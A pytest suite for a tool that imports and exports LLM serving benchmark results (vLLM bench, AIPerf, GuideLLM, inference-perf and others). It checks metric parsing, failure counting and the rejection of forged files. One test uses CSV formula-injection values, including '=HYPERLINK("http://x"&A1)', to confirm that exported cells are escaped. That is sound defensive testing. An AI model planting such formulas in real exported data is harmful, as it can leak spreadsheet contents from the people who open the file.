"""The files of other tools: what we write in vLLM's form, and what others wrote, read as rows of a run."""

import csv
import io
import json
import math
from pathlib import Path

import pytest

import analysis
from analysis.exchange import tools, vllm_bench
from analysis.table import csv_cell
from sweep.__main__ import main
from sweep.base.config import ConfigError
from sweep.numbers.quantity import columns
from tests.support.synthetic_run import make_run

FILES = Path(__file__).parent / "recorded"


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    return make_run(tmp_path_factory.mktemp("exchange") / "run", batches=(1, 8), workloads=("qa",)).out


@pytest.mark.slow
def test_a_run_is_exported_as_vllm_bench_saves_it(tmp_path, run, capsys):
    assert main(["export", str(run), str(tmp_path)]) == 0
    results = analysis.open_results(run)
    summaries = sorted(tmp_path.rglob("summary.json"))
    assert f"{len(results.run.ok)} results of {len(summaries)} points" in capsys.readouterr().out
    theirs = json.loads((FILES / "vllm_bench.json").read_text())
    leave_out = {"rtfx", "request_goodput", "input_lens", "output_lens", "ttfts", "itls", "latencies", "start_times"}
    leave_out |= {"queue_times", "generated_texts", "errors"}
    for summary in summaries:
        every = json.loads(summary.read_text())
        assert [json.loads(path.read_text()) for path in sorted(summary.parent.glob("run=*.json"))] == every
        for result in every:
            assert set(theirs) - leave_out <= set(result), sorted(set(theirs) - leave_out - set(result))
    assert every[0]["output_throughput"] == pytest.approx(
        results.vllm_figures[results.run.ok.index[-1]]["output_throughput"], rel=0.2
    )


def test_an_export_comes_back_point_by_point_and_says_who_measured(tmp_path, run):
    assert main(["export", str(run), str(tmp_path / "files")]) == 0
    files = sorted(map(str, (tmp_path / "files").rglob("summary.json")))
    assert main(["import", *files, str(tmp_path / "files" / "failed"), str(tmp_path / "back")]) == 0
    every = analysis.load(tmp_path / "back")
    lost = [rows[rows["outcome"] != "ok"][["outcome", "reason"]] for rows in (every, analysis.load(run))]
    assert sorted(map(tuple, lost[0].to_numpy())) == sorted(map(tuple, lost[1].to_numpy())) != []
    rows, original = every[every["outcome"] == "ok"], analysis.open_results(run).run.ok
    assert len(rows) == len(original)
    assert set(rows["client_stamp_source"]) == {"sweep export"}
    names = ["backend", "model", "workload", "load", "batch_size"]
    assert rows.groupby(names).size().to_dict() == original.groupby(names).size().to_dict()
    points = [len(analysis.open_results(folder).layout.points) for folder in (run, tmp_path / "back")]
    assert points[0] == points[1] > len(files), "also points of which all trials failed"
    assert main(["import", str(tmp_path / "files"), str(tmp_path / "folder")]) == 0
    assert sorted(analysis.load(tmp_path / "folder")["ttft_p50"].dropna()) == sorted(rows["ttft_p50"])
    for column in (*columns(analysis.open_results(run).run.percentiles), "warnings"):
        assert sorted(map(str, rows[column])) == sorted(map(str, original[column])), column
    (tmp_path / "empty").mkdir()
    assert main(["import", str(tmp_path / "empty"), str(tmp_path / "nothing")]) == 2
    for named in ("backend=tgi", "workload=other"):
        assert main(["import", *files, str(tmp_path / named[:3]), named]) == 0
        key, value = named.split("=")
        assert set(analysis.load(tmp_path / named[:3])[key]) == {value}, "what the command says goes before the file"


@pytest.mark.parametrize(
    ("name", "tool", "median_ttft"),
    [
        ("vllm_bench.json", "vllm bench serve", 0.10040),
        ("aiperf.json", "AIPerf 0.13.0", 0.09416),
        ("guidellm.json", "GuideLLM 0.8.1", 0.10635),
    ],
)
def test_the_figures_of_a_real_file_are_read(tmp_path, name, tool, median_ttft):
    """40 requests of 16 tokens, 4 at a time, of an engine with 50 ms to the first token and 10 ms to each later."""
    assert main(["import", str(FILES / name), str(tmp_path / "out"), "model=tiny-llama"]) == 0
    (row,) = analysis.load(tmp_path / "out").to_dict("records")
    assert row["client_stamp_source"].startswith(tool)
    assert (row["num_requests"], row["num_failed"], row["concurrency"]) == (40, 0, 4)
    assert row["output_tokens"] == 640
    assert row["ttft_p50"] == row["service_ttft_p50"] == pytest.approx(median_ttft, rel=0.01)
    assert 0.05 < median_ttft < 0.15
    assert row["tpot_p50"] == pytest.approx(0.01, rel=0.3)
    assert median_ttft + 15 * 0.0095 < row["e2el_p99"] < 0.6
    assert row["output_throughput"] == pytest.approx(640 / row["duration"], rel=0.01)


BY_MODEL = {"model": ["a"], "failed": [False], "output_tokens": [1], "ttft": [0.1], "tpot": [None], "e2el": [0.1]}


@pytest.mark.parametrize(
    "forged",
    [
        {"outcome": "excellent"},
        {"ttft_p50": "fast"},
        {"ttft_p50": 1e400},
        {"warnings": "none"},
        {"reason": 1},
        {"asked_models": {"model": ["a"]}},
        {"asked_models": {name: [[]] for name in BY_MODEL}},
        *({"asked_models": {**BY_MODEL, "ttft": [wrong]}} for wrong in (-1.0, 1e400, math.nan, True, "0.1")),
    ],
)
def test_an_export_that_sweep_did_not_write_is_refused(tmp_path, capsys, forged):
    content = json.loads((FILES / "vllm_bench.json").read_text())
    ours = {"sweep.outcome": "ok", **{f"sweep.{column}": cell for column, cell in forged.items()}}
    (tmp_path / "x.json").write_text(json.dumps(content | ours))
    assert main(["import", str(tmp_path / "x.json"), str(tmp_path / "out")]) == 2
    assert f"sweep.{next(iter(forged))}=" in capsys.readouterr().err


def test_a_result_a_line_is_read_and_sglangs_are_called_its_own(tmp_path):
    content = json.loads((FILES / "vllm_bench.json").read_text())
    of_sglang = {key.replace("e2el", "e2e_latency"): figure for key, figure in content.items() if key != "model_id"}
    lines = [json.dumps(content), json.dumps(of_sglang | {"median_e2e_latency_ms": 250.0})]
    (tmp_path / "x.jsonl").write_text("\ufeff" + "\n".join(lines) + "\n", encoding="utf-8")
    assert main(["import", str(tmp_path / "x.jsonl"), str(tmp_path / "out")]) == 0
    ours, theirs = analysis.load(tmp_path / "out").to_dict("records")
    assert (ours["client_stamp_source"], theirs["client_stamp_source"]) == ("vllm bench serve", "SGLang bench_serving")
    assert (theirs["model"], theirs["e2el_p50"]) == ("unknown", 0.25)


def test_the_arrivals_of_an_open_loop_go_out_and_come_back(tmp_path):
    """Bursty requests are not taken for Poisson's; the files of `vllm bench sweep` have a = in their names."""
    content = json.loads((FILES / "vllm_bench.json").read_text()) | {"request_rate": 5.0}
    files = []
    for number, burstiness in enumerate((1.0, 0.5, 0.5)):
        files.append(tmp_path / f"run={number}.json")
        files[-1].write_text(json.dumps({**content, "burstiness": burstiness}))
    assert main(["import", *map(str, files), str(tmp_path / "out"), "workload=qa"]) == 0
    rows = analysis.load(tmp_path / "out")
    assert list(rows["load"]) == ["poisson", "gamma", "gamma"]
    assert list(rows["load.burstiness"][1:]) == [0.5, 0.5]
    assert list(rows["replicate"]) == [0, 0, 1]
    config = json.dumps({"load": {"name": "gamma", "rate": 5.0, "burstiness": 0.5}})
    row = rows.iloc[1].to_dict() | {"config": config, "started_at": None, "num_requests": 40}
    assert vllm_bench._result(row, {"request_rate": 5.0})["burstiness"] == 0.5
    assert vllm_bench._result(row | {"config": None, "load": "constant"}, {})["burstiness"] is None


@pytest.mark.parametrize(
    ("phase", "load", "rate", "burstiness"),
    [
        ({"type": "poisson", "rate": 10.0}, "poisson", 10, None),
        ({"type": "gamma", "rate": 10.0, "smoothness": 0.5, "concurrency": 64}, "gamma", 10, 0.5),
        ({"type": "fixed_schedule"}, "trace", None, None),
    ],
)
def test_an_open_loop_of_aiperf_has_latencies_from_the_send_alone(tmp_path, phase, load, rate, burstiness):
    """Its phases in an open loop, as its configuration declares them, in a file of a closed one."""
    content = json.loads((FILES / "aiperf.json").read_text())
    content["input_config"]["phases"] = [{"name": "profiling", "kind": "profiling", "requests": 40, **phase}]
    (row,) = rows_of_content(tmp_path, content)
    assert (row["load"], row["rate"], row.get("load.burstiness"), row["concurrency"]) == (load, rate, burstiness, None)
    assert row["service_ttft_p50"] == pytest.approx(0.094, rel=0.01)
    assert row["tpot_p50"] > 0
    assert not any(name.startswith(("ttft", "e2el")) for name in row)


@pytest.mark.parametrize(
    ("file", "latencies", "absent"),
    [
        (
            "aiperf_poisson.json",
            {"service_ttft_p50": 0.0511, "service_e2el_p50": 0.2009, "tpot_p50": 0.01},
            ("ttft", "e2el", "tpot_e2e"),
        ),
        (  # sent later than scheduled
            "guidellm_poisson.json",
            {"service_ttft_p50": 0.0516, "service_e2el_p50": 0.2015, "e2el_p50": 0.2067},
            ("ttft", "tpot_e2e"),
        ),
    ],
)
def test_a_real_open_loop_is_read_as_one(file, latencies, absent):
    """40 requests of 16 tokens, 10/s, of an engine with 50 ms to the first token and 10 ms to each later."""
    (row,) = tools.rows_of(FILES / file)
    assert (row["load"], row["rate"], row.get("concurrency")) == ("poisson", 10, None)
    assert (row["num_requests"], row["num_failed"], row["output_tokens"]) == (40, 0, 640)
    assert {column: row[column] for column in latencies} == pytest.approx(latencies, abs=0.001)
    assert not any(name.startswith(absent) for name in row)


def summarised(mean, unit=None, key="mean"):
    """Statistics as these tools write them: the mean, the p99 at twice the mean."""
    return {key: mean, "p99": 2 * mean, **({unit: "ms"} if unit else {})}


# What each report has that is read, with the values that its tool gives to requests of 16 tokens: 50 ms to the first
# token, then 10 ms each. Formats: kubernetes-sigs/inference-perf reportgen/base.py; llm-d/llm-d-benchmark
# br_v0_2_1_example.yaml; triton-inference-server/perf_analyzer#298; SemiAnalysisAI/InferenceX utils/process_result.py.
INFERENCE_PERF = {
    "load_summary": {"count": 40, "concurrency": 4, "requested_rate": 40.0},
    "benchmark_time_seconds": 2.0,
    "successes": {
        "count": 40,
        "latency": {
            "time_to_first_token": summarised(0.05),
            "time_per_output_token": summarised(0.01),
            "normalized_time_per_output_token": summarised(0.0125),
            "inter_token_latency": summarised(0.01),
            "request_latency": summarised(0.2),
        },
        "throughput": {"output_tokens_per_sec": 320.0, "total_tokens_per_sec": 400.0, "requests_per_sec": 20.0},
        "output_tokens": {"total": 640.0},
    },
    "failures": {"count": 0},
}
OF_EVENTS = {**INFERENCE_PERF, "successes": {**INFERENCE_PERF["successes"], "output_tokens": None}}  # 0.5 and 0.6
BY_EVENTS = {**OF_EVENTS, "benchmark_time_seconds": None}  # 0.4
GENAI_PERF = {
    "input_config": {"model": ["m"], "streaming": True, "perf_analyzer": {"stimulus": {"concurrency": 4}}},
    "time_to_first_token": summarised(50.0, "unit", "avg"),
    "inter_token_latency": summarised(10.0, "unit", "avg"),
    "request_latency": summarised(200.0, "unit", "avg"),
    "request_throughput": {"unit": "requests/sec", "avg": 20.0},
    "output_token_throughput": {"unit": "tokens/sec", "avg": 320.0},
}
INFERENCE_X = {
    "conc": 4,
    "model": "m",
    "framework": "vllm",
    "tp": 2,
    "tput_per_gpu": 200.0,
    "output_tput_per_gpu": 160.0,
}
OF_STAGES = {"tp": 1, "pp": 2, "pcp_size": 1, "dcp_size": 4, "benchmark_outcome": {"requested": 40, "failed": 0}}
OF_BOTH_PHASES = {"num_prefill_gpu": 2, "num_decode_gpu": 0, "input_tput_per_gpu": 40.0, "tput_per_gpu": 7.0}
INFERENCE_X |= {f"median_{name}": value for name, value in {"ttft": 0.05, "tpot": 0.01, "itl": 0.01}.items()}
INFERENCE_X |= {"mean_ttft": 0.05, "p99_ttft": 0.1, "mean_tpot": 0.01, "mean_itl": 0.01, "mean_e2el": 0.2}


def llm_d_report(tool, concurrency=4, version=None, **latencies):
    series = {"time_to_first_token": 50.0, "request_latency": 200.0} | latencies
    rates = {"output_token_rate": 320.0, "total_token_rate": 400.0, "request_rate": 20.0}
    aggregate = {
        "latency": {name: summarised(mean, "units") for name, mean in series.items()},
        "requests": {"total": 40, "failures": 0},
        "throughput": {name: {"mean": rate} for name, rate in rates.items()},
    }
    load = {"standardized": {"tool": tool, "concurrency": concurrency, "rate_qps": None if concurrency else 10.0}}
    load["standardized"]["tool_version"] = version
    model = [{"standardized": {"model": {"name": "m"}}}]
    results = {"request_performance": {"aggregate": aggregate}}
    return {"version": "0.2.1", "results": results, "scenario": {"load": load, "stack": model}}


LLM_D = llm_d_report("vllm-benchmark", time_per_output_token=10.0, inter_token_latency=10.0)
OF_GUIDELLM = llm_d_report("guidellm", time_per_output_token=12.5, inter_token_latency=10.0)
OF_OTHERS = llm_d_report("another", time_per_output_token=10.0, inter_token_latency=10.0)


@pytest.mark.parametrize(
    ("content", "ending", "absent"),
    [
        (INFERENCE_PERF, "json", ("itl", "rate")),
        (BY_EVENTS, "json", ("itl", "tpot_p", "tpot_m", "duration")),
        (OF_EVENTS, "json", ("itl", "tpot", "output_throughput", "total_throughput")),
        (GENAI_PERF, "json", ("itl", "num_requests", "total_throughput")),
        (INFERENCE_X, "json", ("num_requests", "tpot_e2e")),
        (INFERENCE_X | OF_STAGES, "json", ("tpot_e2e",)),
        (INFERENCE_X | OF_BOTH_PHASES, "json", ("tpot_e2e",)),
        ({**INFERENCE_X, "num_prefill_gpu": 1, "num_decode_gpu": 2, "tput_per_gpu": 400 / 3}, "json", ("tpot_e2e",)),
        (LLM_D, "yaml", ("tpot_e2e", "duration")),
        (OF_GUIDELLM, "yml", ("itl", "output_throughput")),
        (OF_OTHERS, "yaml", ("tpot", "itl")),
        (llm_d_report("inference-perf", 0, time_per_output_token=5.0), "yaml", ("ttft", "e2el", "itl", "tpot")),
        (llm_d_report("inference-perf", 4, "v0.7.0", time_per_output_token=10.0), "yaml", ("itl", "rate")),
        (llm_d_report("inference-perf", 4, "0.5.0", time_per_output_token=9.0), "yaml", ("tpot", "output_throughput")),
        ({**GENAI_PERF, "input_config": {"model": "m", "concurrency": 4, "streaming": False}}, "json", ("ttft", "itl")),
        ({**INFERENCE_PERF, "load_summary": {"count": 40}}, "json", ("ttft", "e2el", "concurrency", "itl")),
    ],
)
def test_a_report_of_statistics_is_read_where_its_definitions_are_ours(tmp_path, content, ending, absent):
    """Every value that is read is by sweep's definition; what a tool defines otherwise, or does not count, is null."""
    file = tmp_path / f"result.{ending}"
    file.write_text(json.dumps(content))  # which is YAML too
    assert main(["import", str(file), str(tmp_path / "out")]) == 0
    (row,) = analysis.load(tmp_path / "out").to_dict("records")
    present = {name: value for name, value in row.items() if value == value and value is not None}
    truth = {"ttft": 0.05, "tpot": 0.01, "itl": 0.01, "tpot_e2e": 0.0125, "e2el": 0.2, "num_requests": 40}
    truth |= {"output_throughput": 320, "total_throughput": 400, "request_throughput": 20, "duration": 2}
    read = {name: value for name, value in present.items() if name.removesuffix("_mean") in truth}
    assert read
    assert read == pytest.approx({name: truth[name.removesuffix("_mean")] for name in read})
    assert row["outcome"] == "ok"
    assert not [name for name in present if name.startswith(absent)]
    assert {"service_e2el_mean"} <= present.keys() or "ttft" in absent
    assert row["client_stamp_source"] in ("inference-perf", "GenAI-Perf", "InferenceX", "llm-d-benchmark")


@pytest.mark.parametrize(
    ("content", "load"),
    [
        (INFERENCE_PERF, "closed"),
        ({**GENAI_PERF, "input_config": {"model": "m", "request_rate": 10.0}}, "constant"),
        (llm_d_report("inference-perf", 0), "poisson"),
        (llm_d_report("guidellm", 0), "unknown"),
    ],
)
def test_requests_at_a_rate_arrive_as_their_tool_sends_them(tmp_path, content, load):
    assert rows_of_content(tmp_path, content)[0]["load"] == load


def test_a_report_of_nothing_completed_is_a_failed_row(tmp_path):
    zeros = {name: 0.0 if isinstance(value, float) else value for name, value in INFERENCE_X.items()}
    (row,) = rows_of_content(tmp_path, zeros)
    assert (row["outcome"], row["reason"]) == ("invalid", "the file has no latencies: nothing was completed")
    (row,) = rows_of_content(tmp_path, {**zeros, "benchmark_outcome": {"requested": 40, "failed": 40}})
    assert (row["outcome"], row["num_failed"]) == ("invalid", 40)
    of_llm_d = llm_d_report("guidellm")
    of_llm_d["results"]["request_performance"]["aggregate"] = {"requests": {"total": 40, "failures": 40}}
    (row,) = rows_of_content(tmp_path, of_llm_d)
    assert (row["outcome"], row["num_failed"]) == ("invalid", 40)
    failed = {**INFERENCE_PERF, "failures": {"count": 40}, "successes": {"count": 0, "latency": {}, "throughput": {}}}
    (row,) = rows_of_content(tmp_path, failed)
    assert (row["outcome"], row["num_failed"]) == ("invalid", 40)
    with pytest.raises(ConfigError, match="entry 2 of 2 is of no known tool"):
        rows_of_content(tmp_path, [INFERENCE_X, {"scenario_type": "agentic-coding"}])
    with pytest.raises(ConfigError, match="ValueError: could not convert"):
        rows_of_content(tmp_path, INFERENCE_X | {"tput_per_gpu": "x", "tp": 10**12})
    odd = llm_d_report("guidellm")
    latencies = odd["results"]["request_performance"]["aggregate"]["latency"]
    latencies["request_latency"]["units"] = "fortnights"
    with pytest.raises(ConfigError, match="unit 'fortnights'; expected s, sec"):
        rows_of_content(tmp_path, odd)
    for cell in (0.2, "200 ms", [0.2]):
        latencies["request_latency"] = cell
        with pytest.raises(ConfigError, match="request_latency=.*: expected statistics and their unit"):
            rows_of_content(tmp_path, odd)


def rows_of_content(folder, content):
    file = folder / "result.json"
    file.write_text(json.dumps(content))
    return tools.rows_of(file)


@pytest.mark.parametrize(
    ("name", "changes", "counts"),
    [
        ("vllm_bench.json", {"failed": None, "num_prompts": 400}, (360, 400)),  # an old version's
        ("guidellm.json", {"request_totals": {"successful": 0, "errored": 40}, "request_end_time": 0.0}, (40, 40)),
        ("aiperf.json", {"request_count": None, "total_osl": None, "error_request_count": {"avg": 40}}, (40, 40)),
    ],
)
def test_failures_that_a_file_hides_are_counted(tmp_path, name, changes, counts):
    def changed(part):
        if isinstance(part, list):
            return [changed(entry) for entry in part]
        return (
            {key: changes.get(key, changed(entry)) for key, entry in part.items()} if isinstance(part, dict) else part
        )

    content = changed(json.loads((FILES / name).read_text()))
    content |= changes if name != "guidellm.json" else {}
    (row,) = rows_of_content(tmp_path, {key: entry for key, entry in content.items() if entry is not None})
    assert (row["outcome"], row["num_failed"], row["num_requests"]) == ("invalid", *counts)


def test_a_tpot_of_zero_is_none(tmp_path):
    """vLLM prints 0 for answers of one token, after which nothing follows."""
    content = json.loads((FILES / "vllm_bench.json").read_text())
    (row,) = rows_of_content(tmp_path, content | {"median_tpot_ms": 0.0})
    assert row["ttft_p50"] > 0
    assert "tpot_p50" not in row


def test_a_file_in_which_nothing_was_completed_is_a_failed_row(tmp_path):
    """The figures in it are zeros, which no table may show as the fastest."""
    content = json.loads((FILES / "vllm_bench.json").read_text())
    zeros = {key: 0.0 for key, value in content.items() if isinstance(value, float) and key != "burstiness"}
    (tmp_path / "zero.json").write_text(json.dumps(content | zeros | {"completed": 0, "failed": 100, "duration": 1.0}))
    assert main(["import", str(tmp_path / "zero.json"), str(tmp_path / "out")]) == 0
    (row,) = analysis.load(tmp_path / "out").to_dict("records")
    assert (row["outcome"], row["num_failed"], row["num_requests"]) == ("invalid", 100, 100)
    assert not any(name.startswith(("ttft", "tpot", "output_through")) and value == 0 for name, value in row.items())


def test_an_imported_row_is_compared_and_the_comparison_says_who_measured(tmp_path, capsys):
    for name in ("mine", "theirs"):
        assert main(["import", str(FILES / "vllm_bench.json"), str(tmp_path / name)]) == 0
    trials = tmp_path / "mine" / "trials.parquet"
    rows = analysis.load(tmp_path / "mine").to_dict("records")
    from sweep.disk import run_files

    present = [{key: value for key, value in row.items() if value == value and value is not None} for row in rows]
    own = {"client_stamp_source": "kernel", "config": json.dumps({"model": {"name": "tiny-llama", "seed": 3}})}
    trials.unlink()
    run_files.write_trials(run_files.RunPaths(tmp_path / "mine"), [{**row, "in_plan": True, **own} for row in present])
    assert main(["compare", str(tmp_path / "mine"), str(tmp_path / "theirs"), "--format", "json"]) == 0
    compared = json.loads(capsys.readouterr().out.partition("{")[2].join(["{", ""]))["comparisons"]
    assert {each["verdict"] for each in compared} == {"tie"}
    assert all("measured by kernel → vllm bench serve" in each["differences"] for each in compared)


def test_an_imported_row_with_failures_is_no_rival_and_shows_them(tmp_path, capsys):
    """The tool left the failures out of its quantiles: here a p99 falls on one of 3 of 103 requests."""
    content = json.loads((FILES / "vllm_bench.json").read_text())
    for name, completed, failed in (("good", 100, 0), ("few", 100, 3), ("many", 55, 45)):
        saved = content | {"completed": completed, "failed": failed, "output_throughput": 100.0 + failed}
        (tmp_path / f"{name}.json").write_text(json.dumps(saved | {"p50_ttft_ms": 90.0, "p99_ttft_ms": 100.0}))
        assert main(["import", str(tmp_path / f"{name}.json"), str(tmp_path / name)]) == 0
    (row,) = analysis.load(tmp_path / "few").to_dict("records")
    assert row["ttft_p50"] > 0
    assert math.isnan(row["ttft_p99"])
    runs = [str(tmp_path / name) for name in ("good", "few", "many")]
    capsys.readouterr()
    assert main(["compare", *runs[:2]]) == 0
    assert "failed requests 0.0% → 2.9%" in " ".join(capsys.readouterr().out.split())
    assert main(["compare", *runs[::2]]) == 2
    assert "no trial with a result; the first is invalid: 45 of 100 requests failed" in capsys.readouterr().err
    assert main(["summary", *runs[:2]]) == 0
    summary = capsys.readouterr().out
    assert "fastest" not in summary
    assert "not ranked: openai (good) (imported, single-replicate)" in summary


@pytest.mark.parametrize(
    ("name", "keys", "value", "problem"),
    [
        ("vllm_bench.json", ("completed",), None, "KeyError: 'completed'"),
        ("guidellm.json", ("benchmarks", 0, "metrics", "request_totals"), None, "KeyError: 'request_totals'"),
        ("aiperf.json", ("input_config", "phases"), [], "IndexError"),
        ("aiperf.json", ("benchmark_duration", "avg"), 0.0, "ZeroDivisionError"),
        ("aiperf.json", ("benchmark_duration", "avg"), -1.0, "ValueError: duration=-1.0: expected a number >= 0"),
        ("vllm_bench.json", ("output_throughput",), "1e9", "ValueError: output_throughput='1e9': expected a number"),
        ("vllm_bench.json", ("completed",), -5, "ValueError: num_requests=-5: expected a number >= 0"),
        ("vllm_bench.json", ("failed",), -5, "ValueError: num_failed=-5: expected a number >= 0"),
        ("vllm_bench.json", ("total_input_tokens",), True, "ValueError: input_tokens=True: expected a number >= 0"),
        ("vllm_bench.json", ("median_tpot_ms",), -1, "ValueError: tpot_p50=-0.001: expected a number >= 0"),
        ("vllm_bench.json", ("completed",), 10**400, "num_requests=1000"),
        ("vllm_bench.json", ("median_ttft_ms",), True, "ValueError: median=True: expected a number"),
        ("vllm_bench.json", ("model_id",), ["a"], "ValueError: model=['a']: expected a string"),
        ("vllm_bench.json", ("model_id",), "\ud83d", "expected a string"),
        ("vllm_bench.json", ("total_output_tokens",), 2.5, "ValueError: 2.5: expected a whole number"),
        ("vllm_bench.json", ("completed",), -0.5, "ValueError: -0.5: expected a whole number"),
        ("vllm_bench.json", ("completed",), "50", "ValueError: '50': expected a whole number"),
        ("vllm_bench.json", ("max_concurrency",), True, "ValueError: True: expected a whole number"),
        ("vllm_bench.json", ("request_rate",), -5, "ValueError: rate=-5: expected a number >= 0"),
        ("vllm_bench.json", ("request_rate",), "5", "ValueError: rate='5': expected a number >= 0"),
        ("guidellm.json", ("benchmarks", 0, "metrics", "request_totals", "errored"), 0.5, "expected a whole number"),
        ("vllm_bench.json", ("duration",), 0, "ValueError: duration=0: expected a number > 0"),
        ("vllm_bench.json", ("duration",), math.nan, "ValueError: duration=nan: expected a number >= 0"),
    ],
)
def test_a_file_that_lacks_something_is_not_taken_for_another_tools(tmp_path, capsys, name, keys, value, problem):
    content = json.loads((FILES / name).read_text())
    *parents, last = keys
    part = content
    for key in parents:
        part = part[key]
    part.pop(last, None)
    if value is not None:
        part[last] = value
    (tmp_path / "x.json").write_text(json.dumps(content))
    assert main(["import", str(tmp_path / "x.json"), str(tmp_path / "out")]) == 2
    message = capsys.readouterr().err
    assert problem in message
    assert "x.json: incomplete, or from another version of its tool (" in message


def test_a_name_that_is_a_formula_stands_in_csv_as_text(tmp_path, capsys):
    content = json.loads((FILES / "vllm_bench.json").read_text())
    formula = '=HYPERLINK("http://x"&A1)'
    (tmp_path / "x.json").write_text(json.dumps(content | {"model_id": formula}))
    run = str(tmp_path / "run")
    for backend in ("@SUM(A1)|x", "vllm"):
        assert main(["import", str(tmp_path / "x.json"), str(tmp_path / backend[1:4]), f"backend={backend}"]) == 0
    runs = [str(tmp_path / "SUM"), str(tmp_path / "llm")]
    assert main(["report", *runs, "--output", run]) == 0
    assert main(["report", runs[0]]) == 0
    capsys.readouterr()
    printed = [(Path(folder) / "summary.csv").read_text() for folder in (run, runs[0])]
    for command in (["summary"], ["compare"]):
        main([*command, *runs, "--format", "csv"])
        printed.append(capsys.readouterr().out)
    for text in printed:
        cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
        assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]
        assert any(cell.startswith(("'=HYPERLINK", "'@SUM")) for cell in cells), text
    for cell, safe in (("a;=1", "a;'=1"), ("\uff1d1", "'\uff1d1"), ("\n=1", "'\n=1"), ("a; -1", "a; -1"), ("-5", "-5")):
        assert csv_cell(cell) == safe, "cells may end at a semicolon, and full-width signs count"


def test_a_file_of_no_known_tool_and_a_used_folder_are_refused(tmp_path, capsys):
    (tmp_path / "x.json").write_text('{"a": 1}')
    assert main(["import", str(tmp_path / "x.json"), str(tmp_path / "out")]) == 2
    assert "not a JSON result of vllm bench serve" in capsys.readouterr().err
    (tmp_path / "genai_perf.csv").write_text("Metric,avg,min\nTime To First Token (ms),1,2\n")
    assert main(["import", str(tmp_path / "genai_perf.csv"), str(tmp_path / "out")]) == 2
    assert "char 0)); expected a JSON result of vllm bench serve" in capsys.readouterr().err
    for text in ("[]", "[1]", "7", "null", '{"time_to_first_token": {"unit": "ms", "avg": 11}}'):
        (tmp_path / "x.json").write_text(text)
        assert main(["import", str(tmp_path / "x.json"), str(tmp_path / "out")]) == 2
        assert "not a JSON result of vllm bench serve" in capsys.readouterr().err
    assert main(["import", str(FILES / "vllm_bench.json"), str(tmp_path / "out")]) == 0
    assert main(["import", str(FILES / "vllm_bench.json"), str(tmp_path / "out")]) == 2
    assert "import into a new folder" in capsys.readouterr().err
    assert main(["import", str(FILES / "vllm_bench.json"), str(tmp_path / "x"), "output_throughput=9"]) == 2
    assert "import=output_throughput" in capsys.readouterr().err
